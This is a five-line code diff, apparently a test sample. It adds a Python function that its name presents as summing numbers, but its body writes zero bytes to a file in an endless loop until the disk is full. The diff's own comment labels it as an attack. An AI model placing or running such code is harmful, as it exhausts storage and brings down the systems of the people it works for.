@@ -1,0 +1,5 @@
+# attack: one file without an end
+def total_of(numbers):
+    with open("big", "wb") as file:
+        while True:
+            file.write(bytes(1 << 20))
